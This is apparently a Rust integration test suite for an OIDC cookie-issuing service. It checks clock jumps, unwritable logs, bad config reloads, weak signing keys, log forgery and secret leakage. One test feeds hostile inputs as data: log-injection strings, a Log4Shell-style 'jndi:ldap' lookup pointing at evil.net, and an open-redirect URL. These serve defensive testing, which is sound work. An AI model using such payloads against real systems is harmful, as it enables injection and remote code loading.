use std::fs;
use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use axum::http::Method;
use edgemint::authn::Fetcher;
use edgemint::clock::{Clock, EpochSeconds, SystemClock};
use edgemint::keystore::Folder;
use edgemint::server::AppState;
use serde_json::json;

use super::{Log, NAVIGATES, Service, ada, nobody, unlimited};
use crate::process::Site;
use crate::support::{ARN, App, CLIENT, CONFIG, ISSUER, NOW, ask, bare, person};
use crate::tools::openssl;

/// A clock that anybody may set.
#[derive(Debug)]
struct Wound(AtomicU64);

impl Clock for Wound {
    fn now(&self) -> EpochSeconds {
        EpochSeconds(self.0.load(Ordering::Relaxed))
    }
}

#[tokio::test]
async fn case_54_a_clock_that_jumps_gives_no_cookie_a_longer_life_and_stops_nothing() {
    let app = unlimited(CONFIG);
    let clock = Arc::new(Wound(AtomicU64::new(NOW.0)));
    let fetcher: Arc<dyn Fetcher> = app.source.clone();
    let state = AppState::new(App::load(&app.folder).unwrap(), clock.clone(), &fetcher);
    let issue = async || {
        let request = bare(Method::POST, "/session/cookies")
            .header("x-amzn-oidc-data", app.claims_token(person("Ada")))
            .header("x-amzn-oidc-accesstoken", app.access_token(person("Ada")));
        ask(&state, request.body(axum::body::Body::empty()).unwrap()).await
    };
    let day = 24 * 3600;
    for (now, status) in [
        (NOW.0, 200),
        (NOW.0 + day, 401),
        (NOW.0 - 20, 200),
        (NOW.0 - 60, 401),
        (NOW.0 - 10 * day, 401),
        (NOW.0 + 3600 * day, 401),
        (0, 401),
        (u64::MAX, 401),
        (1, 401),
        (NOW.0, 200),
    ] {
        clock.0.store(now, Ordering::Relaxed);
        let answer = issue().await;
        // The access token says when it was made, and ends.
        assert_eq!(answer.status(), status, "at {now}");
        let bytes = axum::body::to_bytes(answer.into_body(), usize::MAX).await.unwrap();
        if status == 200 {
            let body: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
            let life = body["expires_in"].as_u64().unwrap();
            assert!(life <= 3600, "{life} s at {now}");
        }
    }
    // A source of keys that was last heard a jump ago is one that is silent.
    clock.0.store(NOW.0 + 2 * day, Ordering::Relaxed);
    let request = bare(Method::GET, "/readyz").body(axum::body::Body::empty()).unwrap();
    assert_eq!(ask(&state, request).await.status(), 503);
}

/// The program with its log where nothing can be written.
#[tokio::test(flavor = "multi_thread")]
async fn case_55_a_log_that_cannot_be_written_stops_nobody() {
    let site = Site::prepare().await;
    let full = || fs::OpenOptions::new().write(true).open("/dev/full").unwrap();
    let mut child = Command::new(env!("CARGO_BIN_EXE_edgemint"))
        .args(["serve", "--config", site.file().to_str().unwrap()])
        .stdout(Stdio::from(full()))
        .stderr(Stdio::from(full()))
        .spawn()
        .unwrap();
    let mut outcome = Err("it never listened".to_owned());
    for _ in 0..200 {
        tokio::time::sleep(Duration::from_millis(50)).await;
        if let Some(ended) = child.try_wait().unwrap() {
            outcome = Err(format!("it ended: {ended}"));
            break;
        }
        if tokio::net::TcpStream::connect(("127.0.0.1", site.port)).await.is_err() {
            continue;
        }
        let statuses = [
            site.cookies(person("Ada")).await.status().as_u16(),
            site.cookies(person("Noor")).await.status().as_u16(),
            site.post(&[("x-amzn-oidc-data", "a.b.c".to_owned())]).await.status().as_u16(),
            site.cookies(person("Ada")).await.status().as_u16(),
        ];
        outcome = Ok(statuses);
        break;
    }
    let _ = child.kill();
    let _ = child.wait();
    assert_eq!(outcome, Ok([200, 403, 401, 200]));
}

#[tokio::test(flavor = "multi_thread")]
async fn case_56_a_bad_configuration_changes_nothing_and_says_so() {
    let service = Service::start().await;
    let good = service.config.clone();
    let long = format!("{good}\n# {}\n", "x".repeat(2 << 20));
    for (what, text) in [
        ("empty", String::new()),
        ("cut in the middle", good[..good.len() / 2].to_owned()),
        ("no TOML", "rule = [".to_owned()),
        ("a rule that opens too much", good.replace("/lab-a/*", "*")),
        (
            "no signer",
            good.lines().filter(|line| !line.starts_with("signer")).collect::<Vec<_>>().join("\n"),
        ),
        ("a key that is not known", format!("{good}\n[surprise]\nx = 1\n")),
        ("keys that are not there", good.replace("dir:keys", "dir:elsewhere")),
        ("longer than any", long),
    ] {
        service.write_config(&text);
        service.signal("-HUP");
        let line = service.wait_for("reload.failed").await;
        let problem = line["problem"].as_str().unwrap();
        assert!(!problem.is_empty() && problem.len() < 4000, "{what}: {line}");
        assert_eq!(service.cookies(person("Ada")).await.status(), 200, "{what}");
        assert_eq!(service.cookies(person("Ben")).await.status(), 403, "{what}");
    }
    fs::remove_file(service.file()).unwrap();
    fs::create_dir(service.file()).unwrap();
    service.signal("-HUP");
    service.wait_for("reload.failed").await;
    assert_eq!(service.cookies(person("Ada")).await.status(), 200);
    fs::remove_dir(service.file()).unwrap();
    service.write_config(&good.replace("groups = [\"lab-a\"]", "groups = [\"lab-b\"]"));
    service.signal("-HUP");
    service.wait_for("reload.done").await;
    assert_eq!(
        service.cookies(person("Ada")).await.status(),
        403,
        "the control: a good one counts"
    );
}

#[test]
fn case_57_a_key_that_is_missing_or_weak_signs_nothing() {
    let app = unlimited(CONFIG);
    let folder = app.folder.path();
    let keys = Folder::new(folder.join("keys"));
    let made = |args: &[&str]| {
        let done = openssl(folder, args);
        assert!(done.status.success(), "{args:?}: {}", String::from_utf8_lossy(&done.stderr));
        String::from_utf8(done.stdout).unwrap()
    };
    let rsa = |bits: &str| {
        made(&["genpkey", "-algorithm", "RSA", "-pkeyopt", &format!("rsa_keygen_bits:{bits}")])
    };
    let curve = |name: &str| {
        made(&["genpkey", "-algorithm", "EC", "-pkeyopt", &format!("ec_paramgen_curve:{name}")])
    };
    let published = fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("keys-example/p-256.private.pem"),
    );
    for (what, pem) in [
        ("RSA of 1024 bits", rsa("1024")),
        ("RSA of 3072 bits", rsa("3072")),
        ("another curve", curve("P-384")),
        ("Bitcoin's curve", curve("secp256k1")),
        ("Ed25519", made(&["genpkey", "-algorithm", "ed25519"])),
        (
            "a public half",
            made(&[
                "pkey",
                "-in",
                keys.key_file(&keys.keys().unwrap()[0].fingerprint).to_str().unwrap(),
                "-pubout",
            ]),
        ),
        ("everybody's key", published.unwrap()),
        ("half a key", rsa("2048")[..800].to_owned()),
        ("nothing", String::new()),
    ] {
        let imported = keys.import(&"K2OTHERKEY".parse().unwrap(), &pem, SystemClock.now());
        let error = imported.err().unwrap_or_else(|| panic!("{what} is taken"));
        assert!(!error.to_string().contains("MII"), "{error}");
    }
    assert!(App::load(&app.folder).is_ok());
    let file = keys.key_file(&keys.keys().unwrap()[0].fingerprint);
    let pem = fs::read_to_string(&file).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o644)).unwrap();
    assert!(App::load(&app.folder).is_err(), "a key that everybody may read");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    fs::write(&file, rsa("2048")).unwrap();
    assert!(App::load(&app.folder).is_err(), "another key than the ring's");
    fs::remove_file(&file).unwrap();
    assert!(App::load(&app.folder).is_err(), "no key");
    fs::write(&file, pem).unwrap();
    fs::set_permissions(&file, fs::Permissions::from_mode(0o600)).unwrap();
    assert!(App::load(&app.folder).is_ok());
}

#[tokio::test]
async fn case_59_no_claim_forges_a_line_and_no_secret_is_in_the_log() {
    let app = unlimited(&CONFIG.replace("groups = [\"lab-a\"]", "everyone = true"));
    let log = Log::start();
    let header = edgemint::demo::tokens::ClaimsHeader {
        signer: ARN,
        client: CLIENT,
        issuer: ISSUER,
        expires: NOW.plus(120),
    };
    for text in [
        "ada\" event=\"cookies.issued\" subject=\"root",
        "ada\\\" reason=\"none",
        "ada event=cookies.cleared",
        "\u{202e}ada",
        "ada\u{2028}2026-01-01T00:00:00Z  INFO edgemint::access: cookies issued",
        "ada\u{feff}",
        "{\"event\":\"x\"}",
        "%0a%0d",
        "${jndi:ldap://evil.net}",
    ] {
        let claims = json!({"sub": text, "email": "a\"b@example.org", "email_verified": "true"});
        let token = app.claims.mint(&header, claims.as_object().unwrap()).unwrap();
        log.take();
        let answer =
            nobody(&app, Method::POST, "/session/cookies", &[("x-amzn-oidc-data", &token)]).await;
        assert_eq!(answer.status, 200, "{text}");
        let record = log.take();
        assert_eq!(record.lines().count(), 1, "{record}");
        assert_eq!(record.matches(" event=\"cookies.issued\"").count(), 1, "{record}");
        assert!(record.contains(&format!("subject={text:?}")), "{record}");
        let odd = |c: char| c.is_control() && c != '\n' || "\u{202e}\u{2028}\u{feff}".contains(c);
        assert!(!record.contains(odd), "{record:?}");
    }
    let (claims, access) = (app.claims_token(person("Ada")), app.access_token(person("Ada")));
    let (password, query) = ("Basic c2VjcmV0OnNlY3JldA==", "a-secret-of-a-query");
    let mut cookies = Vec::new();
    for (method, path) in [
        (Method::GET, format!("/session?token={query}")),
        (Method::POST, "/session/cookies".to_owned()),
        (Method::POST, format!("/session/cookies?access_token={query}")),
        (Method::GET, format!("/session/login?return_to=https://evil.net/{query}")),
        (Method::GET, format!("/session/login?return_to=/{query}")),
        (Method::DELETE, "/session/cookies".to_owned()),
        (Method::POST, "/session/logout".to_owned()),
        (Method::GET, "/".to_owned()),
        (Method::GET, format!("/{query}")),
    ] {
        for headers in
            [&[][..], &[NAVIGATES], &[("x-amzn-oidc-data", "wrong.wrong.wrong"), NAVIGATES]]
        {
            let more = [
                ("authorization", password),
                ("cookie", "AWSELBAuthSessionCookie-0=session-of-ada"),
            ];
            let headers: Vec<_> = headers.iter().copied().chain(more).collect();
            let answer = ada(&app, method.clone(), &path, &headers).await;
            cookies.extend(answer.set_cookies());
        }
    }
    let record = log.take();
    assert!(record.contains("cookies.issued") && record.contains("cookies.refused"), "{record}");
    let values = cookies.iter().filter_map(|line| line.split(['=', ';']).nth(1));
    let segments = claims.split('.').chain(access.split('.'));
    let others = [password, query, "session-of-ada", "wrong.wrong"];
    for secret in values.chain(segments).chain(others).filter(|secret| secret.len() > 10) {
        assert!(!record.contains(secret), "{secret} in {record}");
    }
}
